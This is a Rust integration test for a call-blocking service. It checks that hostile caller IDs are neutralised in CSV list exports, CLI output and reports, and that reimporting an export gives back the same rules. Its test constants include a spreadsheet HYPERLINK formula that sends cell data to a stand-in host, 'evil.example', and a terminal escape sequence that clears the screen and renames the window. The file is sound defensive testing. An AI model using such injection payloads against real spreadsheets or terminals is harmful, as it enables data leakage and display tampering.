//! Issue 19.6, output hygiene: caller IDs are a stranger's text. A caller ID
//! that is a spreadsheet formula, made a rule by "block this caller", must not
//! reach a spreadsheet live through the list file or its CSV export (and must
//! read back as the same rule); one that holds terminal escape sequences, or
//! is 4 KB long, must not reach the terminal nor widen the text reports. The
//! real binary and the real service on loopback, on a real SQLite log.

#[path = "support/server.rs"]
mod server;

use std::path::Path;
use std::process::{Command, Output};

use callguard::calllog::{CallLog, CallRecord};
use reqwest::StatusCode;
use serde_json::{Value, json};

const TOKEN_ENV: &str = "CG_TEST_TOKEN_HYGIENE";
const TOKEN: &str = "hygiene-test-token";

const YAML: &str = r#"
actions:
  vm: { kind: voicemail, mailbox: "100@default" }
http:
  tokens:
    - { name: ops, token_env: CG_TEST_TOKEN_HYGIENE }
trunks:
  support:
    lists:
      - { path: lists/spam.csv, as: blacklist, name: spam }
      - { path: lists/copy.csv, as: blacklist, name: copy }
log: { path: calls.db }
"#;

/// Numbers and wildcards (left readable), and a note that is a formula
/// (quoted once the store writes the file).
const SPAM: &str = "rule_name,pattern,match_type,action,enabled,notes\n\
                    Plain,+15551234567,exact,,true,\n\
                    Range,+1555_______,wildcard,vm,true,=1+1 is two\n\
                    UK,+44*,starts_with,,false,-1 (rare)\n";

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
/// The formula as a CSV cell: behind a `'`, then CSV-quoted.
const FORMULA_CELL: &str = r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#;
const ESCAPES: &str = "\x1b[2J\x1b]0;pwned\x07\r";

fn long_caller() -> String {
    "9".repeat(4096)
}

/// Three blocked calls from hostile callers, written by the real writer.
async fn log_hostile_calls(db: &Path) {
    let (log, writer) = CallLog::start(
        db,
        16,
        prometheus::IntCounter::new("dropped", "dropped").unwrap(),
        0,
        std::time::Duration::from_secs(3600),
    )
    .unwrap();
    for (id, caller) in [
        ("f1", FORMULA.to_string()),
        ("e1", ESCAPES.into()),
        ("l1", long_caller()),
    ] {
        assert!(log.record(CallRecord {
            time: chrono::Utc::now() - chrono::TimeDelta::minutes(5),
            unique_id: id.into(),
            pbx: "asterisk".into(),
            trunk: "support".into(),
            did: "+18005550100".into(),
            rule: Some(format!("Block-{caller}")),
            caller_raw: caller,
            caller_e164: None,
            caller_name: String::new(),
            anonymous: false,
            verdict: "block".into(),
            list: "blacklist".into(),
            list_name: "spam".into(),
            action: "reject".into(),
            reason: "matched".into(),
            decision_ns: 1000,
            fail_open: false,
            tenant: String::new(),
            user: String::new(),
        }));
    }
    log.flush().await.unwrap();
    drop(log);
    writer.await.unwrap();
}

fn setup() -> (tempfile::TempDir, std::path::PathBuf) {
    server::write_config(
        YAML,
        &[
            ("lists/spam.csv", SPAM),
            (
                "lists/copy.csv",
                "rule_name,pattern,match_type,action,enabled,notes\n",
            ),
        ],
    )
}

fn run(config: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_callguard"))
        .args(args)
        .arg("--config")
        .arg(config)
        .env(TOKEN_ENV, TOKEN)
        .output()
        .unwrap()
}

fn ok(o: &Output) -> String {
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "stdout:\n{out}\nstderr:\n{err}");
    out
}

/// What `block --from-call f1` leaves in the list file: the plain cells as
/// they were, the formula cells behind a quote.
fn assert_neutralised(csv: &str) {
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(
        lines[0], "rule_name,pattern,match_type,action,enabled,notes",
        "{csv}"
    );
    assert_eq!(lines[1], "Plain,+15551234567,exact,,true,", "{csv}");
    assert_eq!(
        lines[2], "Range,+1555_______,wildcard,vm,true,'=1+1 is two",
        "{csv}"
    );
    assert_eq!(lines[3], "UK,+44*,starts_with,,false,'-1 (rare)", "{csv}");
    let blocked = lines.iter().find(|l| l.contains("HYPERLINK")).unwrap();
    assert!(
        blocked.contains(&format!(",{FORMULA_CELL},exact,,true,")),
        "{csv}"
    );
    // No cell a spreadsheet would run: every cell that starts with a
    // trigger is a number or a wildcard.
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let formula_start = cell.starts_with(['=', '@', '\t', '\r'])
                || (cell.starts_with(['+', '-'])
                    && !cell
                        .chars()
                        .all(|c| c.is_ascii_digit() || "+-_*[]^$ ().".contains(c)));
            assert!(!formula_start, "live formula cell {cell:?} in\n{csv}");
        }
    }
}

fn rule<'a>(rows: &'a Value, name_part: &str) -> &'a Value {
    rows.as_array()
        .unwrap()
        .iter()
        .find(|r| r["rule_name"].as_str().unwrap().contains(name_part))
        .unwrap_or_else(|| panic!("no rule {name_part} in {rows}"))
}

/// Text meant for a terminal: no control character but line ends, and no
/// line wider than a capped field allows.
fn assert_terminal_safe(what: &str, text: &str, widest: usize) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| (c.is_control() && *c != '\n') || ('\u{202A}'..='\u{202E}').contains(c))
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: control characters {bad:?} in\n{text:?}"
    );
    for line in text.lines() {
        let n = line.chars().count();
        assert!(n <= widest, "{what}: a line of {n} characters: {line}");
    }
}

#[tokio::test]
async fn cli_exports_neutralise_formulas_and_reports_escape_control_bytes() {
    let (dir, config) = setup();
    log_hostile_calls(&dir.path().join("calls.db")).await;

    let out = ok(&run(
        &config,
        &["block", "--from-call", "f1", "--list", "spam"],
    ));
    assert!(out.contains("added to spam"), "{out}");
    let file = std::fs::read_to_string(dir.path().join("lists/spam.csv")).unwrap();
    assert_neutralised(&file);

    // `export` writes what the store wrote; importing it gives the same rules.
    let export = ok(&run(
        &config,
        &["export", "--list", "spam", "--format", "csv"],
    ));
    assert_eq!(export, file);
    let out_csv = dir.path().join("out.csv");
    std::fs::write(&out_csv, &export).unwrap();
    let out = ok(&run(
        &config,
        &["import", "--list", "copy", out_csv.to_str().unwrap()],
    ));
    assert!(out.contains("to add: 4"), "{out}");
    assert_eq!(
        ok(&run(
            &config,
            &["export", "--list", "copy", "--format", "csv"]
        )),
        export
    );
    let json: Value = serde_json::from_str(&ok(&run(
        &config,
        &["export", "--list", "copy", "--format", "json"],
    )))
    .unwrap();
    assert_eq!(rule(&json, "HYPERLINK")["pattern"], FORMULA);
    assert_eq!(rule(&json, "Range")["notes"], "=1+1 is two");
    assert_eq!(rule(&json, "Range")["pattern"], "+1555_______");
    assert_eq!(rule(&json, "UK")["pattern"], "+44*");

    // The escape-sequence caller: the answer, the history, the log table and
    // its stats, and the report show it escaped and keep rows narrow.
    let out = ok(&run(
        &config,
        &["block", "--from-call", "e1", "--list", "spam"],
    ));
    assert!(out.contains("\\x1b[2J\\x1b]0;pwned\\x07"), "{out}");
    assert_terminal_safe("block", &out, 400);
    let history = ok(&run(&config, &["history"]));
    assert!(history.contains("\\x1b[2J"), "{history}");
    assert_terminal_safe("history", &history, 300);
    assert_terminal_safe("log", &ok(&run(&config, &["log", "--since", "1h"])), 260);
    let stats = ok(&run(&config, &["log", "--since", "1h", "--stats"]));
    assert!(
        stats.contains(&format!("Block-{}…", "9".repeat(33))),
        "{stats}"
    );
    assert_terminal_safe("log --stats", &stats, 80);

    let report = ok(&run(&config, &["report", "--since", "1h"]));
    assert!(report.contains("\\x1b[2J\\x1b]0;pwned\\x07\\r"), "{report}");
    assert!(report.contains(&format!("{}…", "9".repeat(39))), "{report}");
    assert_terminal_safe("report", &report, 200);
    let callers = report.split("top blocked callers\n").nth(1).unwrap();
    for line in callers.lines().take_while(|l| l.starts_with("  ")) {
        assert!(line.chars().count() <= 2 + 40 + 2 + 7, "{line}");
    }
    // JSON is escaped by serde and keeps the exact values.
    let json: Value = serde_json::from_str(&ok(&run(
        &config,
        &["report", "--since", "1h", "--format", "json"],
    )))
    .unwrap();
    let keys: Vec<&str> = json["top_blocked_callers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["key"].as_str().unwrap())
        .collect();
    let long = long_caller();
    assert!(keys.contains(&ESCAPES) && keys.contains(&long.as_str()) && keys.contains(&FORMULA));
}

#[tokio::test]
async fn api_export_and_text_report_are_as_safe() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    // SAFETY: set once, to the value the other test passes its processes;
    // std serialises it with the environment reads of `Command::spawn`.
    ONCE.call_once(|| unsafe { std::env::set_var(TOKEN_ENV, TOKEN) });
    let (dir, config) = setup();
    log_hostile_calls(&dir.path().join("calls.db")).await;
    let running = callguard::app::start(&config).await.unwrap();
    let mut srv = server::TestServer {
        running: Some(running),
        dir,
        config,
    };
    let base = format!("http://{}", srv.http());
    let c = reqwest::Client::new();

    let r = c
        .post(format!("{base}/api/v1/calls/f1/block"))
        .bearer_auth(TOKEN)
        .json(&json!({ "list": "spam" }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let r = c
        .get(format!("{base}/api/v1/lists/spam?format=csv"))
        .send()
        .await
        .unwrap();
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let export = r.text().await.unwrap();
    assert_neutralised(&export);
    assert_eq!(
        export,
        std::fs::read_to_string(srv.dir.path().join("lists/spam.csv")).unwrap()
    );

    // The console's import path: the export uploaded as another list.
    let r = c
        .put(format!("{base}/api/v1/lists/copy"))
        .bearer_auth(TOKEN)
        .header("content-type", "text/csv")
        .body(export.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
    let copy = c
        .get(format!("{base}/api/v1/lists/copy?format=csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(copy.text().await.unwrap(), export);
    let rows: Value = c
        .get(format!("{base}/api/v1/lists/copy"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(rule(&rows, "HYPERLINK")["pattern"], FORMULA);
    assert_eq!(rule(&rows, "Plain")["pattern"], "+15551234567");

    let r = c
        .get(format!("{base}/api/v1/report?since=1h&format=text"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().await.unwrap();
    assert!(text.contains("\\x1b[2J\\x1b]0;pwned\\x07\\r"), "{text}");
    assert_terminal_safe("report?format=text", &text, 200);
    let json: Value = c
        .get(format!("{base}/api/v1/report?since=1h"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let keys: Vec<&str> = json["top_blocked_callers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["key"].as_str().unwrap())
        .collect();
    assert!(
        keys.contains(&ESCAPES) && keys.contains(&long_caller().as_str()),
        "{keys:?}"
    );
    srv.stop().await;
}
